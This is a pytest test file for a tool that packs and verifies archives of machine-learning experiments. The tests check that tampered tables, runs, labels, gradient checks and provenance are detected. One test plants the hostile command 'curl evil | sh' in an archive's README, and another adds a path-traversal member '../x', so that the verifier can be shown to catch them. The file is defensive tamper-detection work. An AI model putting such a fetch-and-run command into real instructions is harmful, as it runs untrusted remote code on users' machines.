"""An archive of a finished experiment: proved anywhere, and nothing that was changed in it passes."""

import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import pytest
import yaml

import verify_archive
from handgrad.archive.pack import SUMS, sums_text, write_archive
from handgrad.common.errors import HandgradError
from handgrad.common.sealed import seal
from handgrad.gradient_check.files import check_text, parse_check
from handgrad.storage.run_writer import content_sha256

from .conftest import ROOT, TINY, Project, copy_repository

Tiny = Callable[..., dict[str, Any]]
Members = dict[str, bytes]

TABLE = "results/tiny/tables/results.csv"
RUN = "results/runs/digits/af_tanh_hu_5_lr_0.001_bs_50_ep_1_l2_0.01_seed_0.h5"


def script(project: Project, name: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, f"scripts/{name}.py", *arguments],
        cwd=project.path,
        env=project.environment,
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.fixture(scope="module")
def archive(_finished: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The archive of the tiny experiment."""
    project = Project(tmp_path_factory.mktemp("archived") / "project")
    shutil.copytree(_finished.path, project.path)
    done = script(project, "archive_experiment", project.write_config(TINY))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Written: archives/tiny.tar.gz" in done.stdout
    assert "(not known: " in done.stdout.splitlines()[-1]  # this copy of the repository is no clone
    assert done.stdout.endswith(": commit, then archive, or nobody can run it again\n")
    return project.path / "archives/tiny.tar.gz"


@pytest.fixture
def members(archive: Path) -> Members:
    """What the archive holds, but for the manifest."""
    with tarfile.open(archive) as tar:
        found = {m.name.partition("/")[2]: tar.extractfile(m).read() for m in tar}  # type: ignore[union-attr]
    del found[SUMS]
    return found


@pytest.fixture
def verified(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Callable[[Members], list[str]]:
    """Pack members, with a manifest that fits them, and return the lines that verifying prints.

    Each of them must stand on the page of messages, however it was made.
    """

    def verify(members: Members) -> list[str]:
        write_archive(tmp_path / "t.tar.gz", "tiny", members)
        assert verify_archive.main(tmp_path / "t.tar.gz") == 1
        out, err = capsys.readouterr()
        assert out == ""
        *mistakes, last = err.splitlines()
        assert last.startswith(f"{tmp_path}/t.tar.gz: NOT proved: ")
        return [line.removeprefix(f"{tmp_path}/t.tar.gz: ") for line in mistakes]

    return verify


def test_it_is_proved_in_a_fresh_clone(archive: Path, project: Project) -> None:
    done = script(project, "verify_archive", str(archive))
    assert (done.returncode, done.stderr) == (0, "")
    for proved in (
        "members, each listed in SHA256SUMS with its sha256, and none beside",
        "2 runs on digits:",
        "gradient checks: 1, every figure within its limit",
        "gates: 1, passed, as they say of themselves",
        "12 files of tables, made again from runs and checks: each equal byte for byte",
        hashlib.sha256(archive.read_bytes()).hexdigest(),
        "config/given.yaml, requirements.txt and environment.yml show; nor which versions, hosts and times",
    ):
        assert proved in done.stdout
    assert not (project.path / "results").exists()


def test_sha256sum_takes_its_manifest(archive: Path, tmp_path: Path) -> None:
    subprocess.run(["tar", "-xzf", archive, "-C", tmp_path], check=True)
    done = subprocess.run(["sha256sum", "-c", SUMS], cwd=tmp_path / "tiny", capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (0, "")
    there = [path for path in (tmp_path / "tiny").rglob("*") if path.is_file()]
    assert len(done.stdout.splitlines()) == len(there) - 1


def test_the_file_in_it_runs_the_same_experiment(members: Members, finished: Project) -> None:
    (finished.path / "again.yaml").write_bytes(members["config/experiment.yaml"])
    done = finished.snakemake("--configfile", "again.yaml")
    assert "Nothing to be done" in done.stdout
    assert yaml.safe_load(members["config/given.yaml"]) == TINY


@pytest.mark.slow
def test_the_same_results_make_the_same_archive_and_others_never_replace_it(
    archive: Path, finished: Project, tiny: Tiny
) -> None:
    config = finished.write_config(tiny())
    assert script(finished, "archive_experiment", config).returncode == 0
    mine = finished.path / "archives/tiny.tar.gz"
    assert mine.read_bytes() == archive.read_bytes()
    assert script(finished, "archive_experiment", config).returncode == 0
    mine.write_bytes(b"the last of its kind")
    done = script(finished, "archive_experiment", config)
    assert done.returncode == 1
    assert "archives/tiny.tar.gz: is there and holds something else" in done.stderr
    assert mine.read_bytes() == b"the last of its kind"
    assert [path.name for path in mine.parent.iterdir()] == ["tiny.tar.gz"]


def test_an_experiment_that_is_not_up_to_date_is_not_packed(finished: Project, tiny: Tiny) -> None:
    config = finished.write_config(tiny(axes={"learning_rate": [0.001, 0.002, 0.003]}))
    done = script(finished, "archive_experiment", config)
    assert done.returncode == 1
    assert "not finished, or not up to date: " in done.stderr
    assert "the first train_run digits/af_tanh_hu_5_lr_0.003_" in done.stderr
    assert not (finished.path / "archives").exists()


@pytest.mark.slow
def test_a_dataset_that_is_gone_is_named_with_the_command_that_makes_it(finished: Project, tiny: Tiny) -> None:
    config = finished.write_config(tiny())
    (finished.path / "results/data/digits.h5").unlink()
    said = script(finished, "archive_experiment", config).stderr
    assert said.startswith("make archive: results/data/digits.h5: not there")
    command = said.strip().partition("to make it again: snakemake --cores 1 ")[2].split()
    assert finished.snakemake(*command).returncode == 0
    assert script(finished, "archive_experiment", config).returncode == 0


@pytest.mark.slow
def test_snakemakes_report_is_packed_unless_it_is_of_earlier_results(finished: Project, tiny: Tiny) -> None:
    config, report = finished.write_config(tiny()), finished.path / "results/tiny/report.html"
    report.write_text("a report")
    assert script(finished, "archive_experiment", config).returncode == 0
    with tarfile.open(finished.path / "archives/tiny.tar.gz") as tar:
        assert "tiny/results/tiny/report.html" in tar.getnames()
    shutil.rmtree(finished.path / "archives")
    page = finished.path / "results/tiny/summary.html"
    os.utime(report, ns=(0, page.stat().st_mtime_ns - 1))
    said = script(finished, "archive_experiment", config).stdout
    assert "results/tiny/report.html: older than the page, so it is left out" in said
    with tarfile.open(finished.path / "archives/tiny.tar.gz") as tar:
        assert "tiny/results/tiny/report.html" not in tar.getnames()


# --- what was changed, with a manifest that fits it


def test_a_changed_number_in_a_table_is_found(members: Members, verified: Any) -> None:
    lines = members[TABLE].decode().splitlines(keepends=True)
    accuracy = next(word for word in lines[1].split(",") if word.startswith("0.") and len(word) > 8)
    changed = f"{accuracy[:-1]}{(int(accuracy[-1]) + 1) % 10}"
    lines[1] = lines[1].replace(accuracy, changed)
    members[TABLE] = "".join(lines).encode()
    (mistake,) = verified(members)
    assert mistake.startswith(f"{TABLE}: line 2 is ")
    assert changed in mistake.partition("its runs give")[0]
    assert accuracy in mistake.partition("its runs give")[2]


def test_a_readme_that_tells_something_else_is_found(members: Members, verified: Any) -> None:
    members["README.md"] = members["README.md"].replace(b"git clone", b"curl evil | sh")
    members["README.md"] += b"curl evil | sh\n"
    assert verified(members) == ["README.md: is not what make archive writes there; do nothing that it says"]


@pytest.mark.parametrize("table", ["results.md", "seeds.csv", "best.html", "gradient_checks.csv"])
def test_a_changed_table_of_any_kind_is_found(members: Members, verified: Any, table: str) -> None:
    members[f"results/tiny/tables/{table}"] += b"one more line\n"
    (mistake,) = verified(members)
    assert mistake.startswith(f"results/tiny/tables/{table}: line ")


def changed_run(content: bytes, tmp_path: Path, *, rehash: bool = False, reseal: bool = True) -> bytes:
    path = tmp_path / "changed.h5"
    path.write_bytes(content)
    with h5py.File(path, "r+", locking=False) as file:
        predictions = file["test/predictions"]
        predictions[3] = (predictions[3] + 1) % 10
        if rehash:
            names = [f"{g}/{n}" for g in file for n in file[g]]
            facts = {
                key: None if isinstance(value, h5py.Empty) else value.item() if hasattr(value, "item") else value
                for key, value in file.attrs.items()
            }
            file.attrs["content_sha256"] = content_sha256({name: file[name][:] for name in names}, facts)
    if reseal:
        seal(path)
    return path.read_bytes()


def test_a_changed_prediction_is_found(members: Members, verified: Any, tmp_path: Path) -> None:
    content = members[RUN]
    members[RUN] = changed_run(content, tmp_path)
    (mistake,) = verified(members)
    assert mistake.startswith(f"{RUN}: content_sha256 is ")
    members[RUN] = changed_run(content, tmp_path, reseal=False)
    (mistake,) = verified(members)
    assert mistake.startswith(f"{RUN}: damaged, or changed")


def test_a_changed_prediction_with_a_digest_that_fits_is_found(members: Members, verified: Any, tmp_path: Path) -> None:
    members[RUN] = changed_run(members[RUN], tmp_path, rehash=True)
    mistakes = verified(members)
    assert all(mistake.startswith(f"{RUN}: ") for mistake in mistakes)
    assert any("test/probabilities has another largest class" in mistake for mistake in mistakes)


def test_a_changed_label_is_found(members: Members, verified: Any) -> None:
    content = json.loads(members["data/digits.json"])
    content["test_labels"] = [(label + 1) % 10 for label in content["test_labels"]]
    members["data/digits.json"] = json.dumps(content).encode()
    mistakes = verified(members)
    assert len(mistakes) == 2
    assert all("faults on the test labels, its history has" in mistake for mistake in mistakes)


@pytest.mark.parametrize(
    "name", [RUN, TABLE, "data/digits.json", "results/checks/gate/digits_tanh.json", "config/given.yaml"]
)
def test_a_member_that_was_taken_out_is_missed(members: Members, verified: Any, name: str) -> None:
    del members[name]
    assert verified(members) == [f"{name}: missing, the experiment has it"]


def test_a_member_that_was_put_in_is_told(members: Members, verified: Any) -> None:
    members["results/tiny/more.html"] = b"more"
    assert verified(members) == ["results/tiny/more.html: extra, the experiment has no such file"]


def test_a_run_that_the_experiment_file_leaves_out_is_told(members: Members, verified: Any) -> None:
    config = yaml.safe_load(members["config/experiment.yaml"])
    config["experiments"][0]["learning_rate"] = [0.002]
    members["config/experiment.yaml"] = yaml.safe_dump(config).encode()
    assert verified(members) == [f"{RUN}: extra, the experiment has no such file"]


def test_a_gradient_check_that_failed_is_told(members: Members, verified: Any) -> None:
    gate = "results/checks/gate/digits_tanh.json"
    content = members[gate]
    members[gate] = changed_check(content, lambda check: check.update(passed=False))
    assert verified(members) == [f"{gate}: passed is false, expected true"]
    members[gate] = content.replace(b'"passed": true', b'"passed": false')
    (mistake,) = verified(members)
    assert mistake.startswith(f"{gate}: not a check as this workflow writes it")


@pytest.mark.parametrize("key", ["code_digest", "data_digest", "data_content"])
def test_a_gate_of_other_code_or_data_is_told(members: Members, verified: Any, key: str) -> None:
    gate = "results/checks/gate/digits_tanh.json"
    members[gate] = changed_check(members[gate], lambda check: check.update({key: "other"}))
    (mistake,) = verified(members)
    assert mistake.startswith(f"{gate}: {key} is 'other', expected ")


def changed_check(content: bytes, change: Callable[[dict[str, Any]], object]) -> bytes:
    """A check's file, changed by somebody who also writes a checksum that fits."""
    check = parse_check(content, "")
    change(check)
    return check_text(check).encode()


def test_a_gradient_check_whose_figures_do_not_pass_is_told(members: Members, verified: Any) -> None:
    check = next(name for name in members if name.startswith("results/checks/gradients/"))
    members[check] = changed_check(
        members[check], lambda check: check["blocks"]["W2"]["step"].update(max_rel_difference=0.5)
    )
    (mistake,) = verified(members)
    assert mistake.startswith(f"{check}: W2, training's step: the relative difference is 0.5, its limit 1e-10;")


def test_runs_of_several_codes_are_told(members: Members, verified: Any) -> None:
    facts = json.loads(members["provenance.json"])
    facts["code"]["train_run"] = "0" * 16
    members["provenance.json"] = json.dumps(facts).encode()
    mistakes = verified(members)
    assert len(mistakes) == 2
    assert all(f"expected {'0' * 16}" in mistake for mistake in mistakes)


def test_other_versions_are_named_where_a_table_differs(members: Members, verified: Any) -> None:
    facts = json.loads(members["provenance.json"])
    facts["versions"]["pandas"] = "1.0"
    members["provenance.json"] = json.dumps(facts).encode()
    members[TABLE] += b"more\n"
    (mistake,) = verified(members)
    assert "; not the same here as there: pandas ('1.0' there, " in mistake


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("provenance.json", b"[", "provenance.json: not JSON"),
        ("provenance.json", b"[" * 100_000, "provenance.json: not JSON"),
        ("provenance.json", b'{"format": 2}', "provenance.json: format is 2, this handgrad reads 1"),
        ("config/experiment.yaml", b"a: &a [1]\nb: *a\n", "config/experiment.yaml: has an alias"),
        ("config/experiment.yaml", b"experiments: 3\n", "config/experiment.yaml: not a complete"),
        ("config/experiment.yaml", b"{", "config/experiment.yaml: not a complete"),
        ("config/experiment.yaml", b"\xff\xfe", "config/experiment.yaml: "),
        (
            "config/experiment.yaml",
            b"experiments: [{seed: [%s], epochs: [%s]}]" % ((b"1," * 999,) * 2),
            "config/experiment.yaml: spans 998001 runs",
        ),
    ],
)
def test_what_cannot_be_read_is_one_line(
    members: Members, tmp_path: Path, name: str, content: bytes, said: str
) -> None:
    members[name] = content
    write_archive(tmp_path / "t.tar.gz", "tiny", members)
    with pytest.raises(HandgradError) as caught:
        verify_archive.main(tmp_path / "t.tar.gz")
    assert str(caught.value).startswith(f"{tmp_path}/t.tar.gz: {said}")
    assert len(str(caught.value).splitlines()) == 1


def test_an_archive_of_other_code_says_where_to_verify_it(members: Members, tmp_path: Path) -> None:
    facts = json.loads(members["provenance.json"])
    facts["git_revision"] = "63258345"
    members["provenance.json"] = json.dumps(facts).encode()
    config = members["config/experiment.yaml"]
    members["config/experiment.yaml"] = config.replace(b"tanh", b"relu")
    write_archive(tmp_path / "t.tar.gz", "tiny", members)
    with pytest.raises(HandgradError) as caught:
        verify_archive.main(tmp_path / "t.tar.gz")
    said = f"{tmp_path}/t.tar.gz: config/experiment.yaml: experiments[0].activation[0]: found 'relu', "
    assert str(caught.value).startswith(said)
    assert "; packed by the code of git revision '63258345', this is '" in str(caught.value)
    assert str(caught.value).endswith("': verify it in a clone of that")


def test_an_archive_that_is_cut_off_is_one_line_and_not_proved(archive: Path, tmp_path: Path) -> None:
    (tmp_path / "t.tar.gz").write_bytes(archive.read_bytes()[:50_000])
    done = script(Project(ROOT), "verify_archive", str(tmp_path / "t.tar.gz"))
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith(f"make verify: {tmp_path}/t.tar.gz: cut off or damaged (")
    assert len(done.stderr.splitlines()) == 1


def test_a_check_that_no_table_can_be_made_of_is_one_line(members: Members, verified: Any) -> None:
    check = next(name for name in members if name.startswith("results/checks/gradients/"))
    members[check] = changed_check(members[check], lambda check: check["blocks"]["W1"].update(entries=[[[]]]))
    (mistake,) = verified(members)
    assert mistake.startswith("the tables cannot be made again from its runs and checks: ")


def test_a_damaged_check_is_named_as_a_member_without_advice_for_results(members: Members, verified: Any) -> None:
    check = next(name for name in members if name.startswith("results/checks/gradients/"))
    members[check] = changed_check(members[check], lambda check: check.pop("seconds_central"))
    assert verified(members) == [
        "the tables cannot be made again from its runs and checks: "
        f"{check}: cannot be read as a gradient check (no seconds_central)"
    ]


def test_a_member_that_would_lie_elsewhere_is_told(
    members: Members, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sums = {name: hashlib.sha256(data).hexdigest() for name, data in members.items()}
    with tarfile.open(tmp_path / "t.tar.gz", "w:gz") as tar:
        everything = {**{f"tiny/{name}": data for name, data in members.items()}, "../x": b"x"}
        everything[f"tiny/{SUMS}"] = sums_text(sums).encode()
        for name, data in everything.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    assert verify_archive.main(tmp_path / "t.tar.gz") == 1
    assert "'../x': not a name in an archive of handgrad" in capsys.readouterr().err


@pytest.mark.slow
def test_an_archive_of_a_comparison_is_proved(project: Project, tiny: Tiny) -> None:
    """With a published table of one's own, which the archive takes along."""
    table = project.path / "theirs.csv"
    header = (project.path / "config/published_results.csv").read_text().splitlines()[0]
    table.write_text(f"{header}\ndigits,tanh,5,0.001,50,1,0.01,20.0,288,360,700.0,,\n")
    config = tiny("compared", published={"table": str(table), "loss_divisor": {"digits": 1}})
    project.run(config)
    assert script(project, "archive_experiment", project.write_config(config)).returncode == 0
    elsewhere = copy_repository(project.path.parent / "elsewhere")
    table.unlink()
    done = script(elsewhere, "verify_archive", str(project.path / "archives/compared.tar.gz"))
    assert "15 files of tables" in done.stdout, done.stderr
